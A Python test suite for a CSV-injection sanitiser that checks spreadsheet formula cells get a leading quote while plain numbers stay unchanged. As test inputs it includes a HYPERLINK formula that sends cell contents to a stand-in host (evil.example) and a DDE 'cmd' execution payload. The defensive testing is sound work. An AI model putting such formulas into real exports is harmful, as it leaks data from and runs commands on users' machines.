"""CSV cells a spreadsheet could run as a formula are neutralised (domain.csv_safety, api.csv_export).

The rule (OWASP "CSV injection"): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or
their full-width forms) gets a leading single quote, so a spreadsheet shows it as text; a cell that is entirely a
plain number (``-12.50``, ``+3``) is a value, not a formula, and is left alone so that the column still sums.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opsportal.api.csv_export import SafeCsvWriter, csv_rows, csv_text
from opsportal.domain.csv_safety import FORMULA_STARTS, is_plain_number, safe_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize("cell", [HYPERLINK, "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1",
                                  "\r=1+1", "-", "=", "+", "@", "-3 credits", "-1e5", "＝1+1", "＠SUM(A1)"])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "-3", "+3", "0", "12.50", "-0.5", "1234567890.12"])
def test_a_cell_that_is_a_plain_number_even_a_negative_one_is_left_alone(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell", ["Networking", "Printer on fire", "", " =1+1", "a=b", "1+1", "INV-2026-00001",
                                  "2026-12-03 09:05", "−1 h 30 min", "'already quoted"])
def test_a_cell_that_does_not_start_like_a_formula_is_left_alone(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (-3, "-3"), (42, "42"), (Decimal("-12.50"), "-12.50"),
                                             (True, "True")])
def test_a_value_that_is_not_text_is_written_as_its_text(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("cell", ["-1_000", "-nan", "-inf", "-١٢", "-12.", "-.5", "+-1", "-12.50\n", "-1 ", "--1"])
def test_only_ascii_digits_with_one_sign_and_an_optional_decimal_part_count_as_a_plain_number(cell):
    assert not is_plain_number(cell)
    assert safe_cell(cell).startswith("'")


@given(st.one_of(st.text(), st.integers(), st.none(), st.decimals(allow_nan=False, allow_infinity=False)))
def test_no_cell_starts_like_a_formula_unless_it_is_a_plain_number(value):
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell)


@given(st.text())
def test_a_neutralised_cell_is_the_original_behind_one_quote(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=5), max_size=5))
def test_no_cell_the_csv_helper_writes_starts_like_a_formula_unless_it_is_a_plain_number(rows):
    text = "".join(csv_rows(["Header", "=Total"], rows))
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(rows) + 1
    for row in read:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell)


def test_the_csv_helper_writes_the_header_then_one_line_per_row_with_each_cell_neutralised():
    lines = list(csv_rows(["Name", "Amount"], [[HYPERLINK, "-12.50"], ["Acme", -3]]))
    assert len(lines) == 3
    assert list(csv.reader(io.StringIO("".join(lines)))) == [
        ["Name", "Amount"], ["'" + HYPERLINK, "-12.50"], ["Acme", "-3"]]


def test_the_csv_text_is_the_lines_of_the_helper_joined():
    assert csv_text(["A"], [["=1"], ["x"]]) == "".join(csv_rows(["A"], [["=1"], ["x"]])) == "A\r\n'=1\r\nx\r\n"


def test_the_safe_writer_hands_over_what_was_written_since_it_last_did():
    writer = SafeCsvWriter()
    writer.writerow(["=1", "-2"])
    assert writer.take() == "'=1,-2\r\n"
    writer.writerows([["@a"], ["b"]])
    assert writer.take() == "'@a\r\nb\r\n"
    assert writer.take() == ""
